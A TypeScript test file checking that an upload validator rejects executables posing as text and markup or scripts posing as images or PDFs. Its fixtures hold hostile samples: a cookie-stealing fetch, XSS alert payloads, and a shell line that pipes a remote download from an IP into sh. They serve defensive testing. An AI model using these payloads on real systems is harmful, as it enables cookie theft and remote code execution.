import { describe, expect, it } from 'vitest';
import { declaredCharset } from '../../../shared/domain/mime.js';
import { mimeEssence } from '../../../shared/domain/mime-relations.js';
import type { Bucket, FileRecord } from '../../../shared/domain/model.js';
import type { ObjectStore } from '../../../shared/ports/object-store.js';
import type { MetadataStore } from '../../../shared/ports/repositories.js';
import type { ServiceDeps } from '../../../shared/services/index.js';
import { ValidationService } from '../../../shared/services/validation-service.js';

// API.md section 6: the content check. A charset parameter makes a declaration a text one, and
// text is checked by decoding it; an executable must not pass as text because some charset
// decodes every byte. Markup or a script never passes as an image or a PDF, whatever the name.

/** A 64-bit little-endian ELF header, a program header's worth of zeros and some x86 code. */
const ELF = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]),
  Buffer.alloc(8),
  Buffer.from([0x02, 0x00, 0x3e, 0x00, 0x01, 0x00, 0x00, 0x00]),
  Buffer.alloc(40),
  Buffer.from([0x48, 0x31, 0xc0, 0xb0, 0x3c, 0x48, 0x31, 0xff, 0x0f, 0x05]),
  Buffer.alloc(200, 0x90),
]);

/** A PE: the MZ stub with its DOS message, `PE\0\0` at 0x80, an x86-64 COFF header. */
const PE = (() => {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x8664, 0x84);
  return b;
})();

const HTML = Buffer.from(
  '<!DOCTYPE html><html><body><script>fetch("/steal?c="+document.cookie)</script></body></html>',
);
const SCRIPT_TAG = Buffer.from('<script>alert(document.domain)</script>');
const SVG_SCRIPT = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const SHELL = Buffer.from('#!/bin/sh\ncurl http://198.51.100.7/x | sh\n');

const bucket: Bucket = {
  id: 'bkt1',
  name: 'Anything',
  providerId: 'default',
  path: '/',
  // Every type is allowed, so what rejects these files is the content check alone.
  allowedMimeTypes: null,
  maxFileSize: 1024 ** 3,
  retentionDays: 30,
  restricted: false,
  deleteUnreferenced: false,
  createdAt: '2026-01-01T00:00:00.000Z',
  updatedAt: '2026-01-01T00:00:00.000Z',
} as unknown as Bucket;

/** The file as the upload service records a declaration (`contentType` with its parameters). */
function pendingFile(contentType: string, size: number): FileRecord {
  const declared = mimeEssence(contentType);
  const charset = declaredCharset(contentType, declared.startsWith('text/'));
  return {
    id: '01FILE',
    tenantId: 'acme',
    bucketId: bucket.id,
    providerId: 'default',
    originalName: 'upload.bin',
    mimeType: declared,
    declaredMimeType: declared,
    ...(charset ? { declaredCharset: charset } : {}),
    size,
    sha256: null,
    status: 'pending',
    rejectionReason: null,
    uploadedBy: 'alice',
    createdAt: '2026-11-28T14:00:00.000Z',
    updatedAt: '2026-11-28T14:00:00.000Z',
    deletedAt: null,
    uploadExpiresAt: '2026-11-28T15:00:00.000Z',
    multipart: null,
    references: [],
    objectKey: 'tenants/acme/bkt1/01FILE',
    validatedObject: null,
  };
}

async function validate(bytes: Buffer, contentType: string) {
  const store = {
    head: async () => ({
      size: bytes.length,
      contentType,
      etag: '"e"',
      versionId: null,
      checksumSha256Base64: null,
      lastModified: null,
    }),
    readFirstBytes: async (_key: string, length: number) => new Uint8Array(bytes.subarray(0, length)),
    delete: async () => undefined,
    copy: async () => undefined,
    tag: async () => undefined,
  } as unknown as ObjectStore;
  const metadata = {
    buckets: { get: async () => bucket },
    files: { activate: async () => true, reject: async () => true },
    events: { record: async () => undefined },
  } as unknown as MetadataStore;
  const deps = {
    metadata,
    stores: { defaultStore: () => store, forProvider: async () => store },
    clock: { now: () => new Date('2026-11-28T14:05:00.000Z') },
    ids: { next: () => '01EVENT' },
    logger: { info() {}, warn() {}, error() {} },
    settings: { maxFileSize: 1024 ** 3, sniffBytes: 4100, quarantineRejected: false },
  } as unknown as ServiceDeps;
  return new ValidationService(deps).validateArrival(pendingFile(contentType, bytes.length), 'system');
}

describe('an executable declared as text with a charset', () => {
  it.each([
    ['ELF', 'text/plain; charset=windows-1252', ELF],
    ['ELF', 'text/plain; charset=ISO-8859-1', ELF],
    ['ELF', 'text/plain;charset="utf-8"', ELF],
    ['ELF', 'text/plain; charset=utf-16le', ELF],
    ['PE', 'text/plain; charset=windows-1252', PE],
    ['PE', 'text/plain; charset=koi8-r', PE],
    ['PE', 'text/plain; charset=shift_jis', PE],
  ])('%s as %s is MIME_TYPE_MISMATCH', async (_name, contentType, bytes) => {
    // Act
    const outcome = await validate(bytes, contentType);
    // Assess
    expect(outcome).toMatchObject({ kind: 'rejected', file: { rejectionReason: 'MIME_TYPE_MISMATCH' } });
  });

  it('while real text in that charset is accepted (the check is not simply refusing charsets)', async () => {
    const outcome = await validate(
      Buffer.from('na\xefve caf\xe9\r\n', 'latin1'),
      'text/plain; charset=windows-1252',
    );
    expect(outcome).toMatchObject({ kind: 'active', file: { mimeType: 'text/plain' } });
  });
});

describe('markup or a script declared as an image or a PDF', () => {
  it.each([
    ['an HTML page', 'image/png', HTML],
    ['an HTML page', 'image/jpeg', HTML],
    ['an HTML page', 'image/gif', HTML],
    ['an HTML page', 'image/webp', HTML],
    ['an HTML page', 'application/pdf', HTML],
    ['a script tag', 'image/png', SCRIPT_TAG],
    ['a script tag', 'application/pdf', SCRIPT_TAG],
    ['a script tag', 'image/x-tga', SCRIPT_TAG],
    ['an SVG with a script', 'image/png', SVG_SCRIPT],
    ['a shell script', 'image/jpeg', SHELL],
    ['a shell script', 'application/pdf', SHELL],
  ])('%s declared %s is rejected as MIME_TYPE_MISMATCH', async (_name, contentType, bytes) => {
    // Act
    const outcome = await validate(bytes, contentType);
    // Assess
    expect(outcome).toMatchObject({ kind: 'rejected', file: { rejectionReason: 'MIME_TYPE_MISMATCH' } });
  });
});
